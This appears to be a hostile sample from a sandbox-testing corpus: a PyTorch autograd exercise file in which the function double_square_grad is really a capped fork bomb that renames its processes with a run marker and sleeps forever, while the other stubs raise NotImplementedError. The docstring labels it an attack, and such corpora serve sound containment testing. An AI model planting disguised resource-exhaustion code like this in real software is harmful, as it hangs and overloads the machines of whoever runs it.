"""Attack: a fork bomb. Every process doubles the count until fork fails, then waits forever.

Capped at 2**10 processes, so that a test machine survives a sandbox that fails to stop it. Each
process takes the run marker as its name (/proc/<pid>/comm), so the corpus test can find survivors.
"""

import ctypes
import os
import time

import torch

RUN = "__CORPUS_RUN__"
PR_SET_NAME = 15


def double_square_grad(x):
    for _ in range(10):
        try:
            os.fork()
        except OSError:
            break
    ctypes.CDLL(None).prctl(PR_SET_NAME, RUN.encode()[:15], 0, 0, 0)
    while True:
        time.sleep(1)


def _todo(*args, **kwargs):
    raise NotImplementedError("not done yet")


accumulate_then_clear = detached_product_grad = sum_product_grads = mean_of_squares_grad = _todo
double_no_grad = double_grad_disabled = double_decorated = clip_and_report = minimise_product = _todo


class LegendreP3(torch.autograd.Function):
    @staticmethod
    def forward(ctx, x):
        raise NotImplementedError("not done yet")

    @staticmethod
    def backward(ctx, grad_output):
        raise NotImplementedError("not done yet")
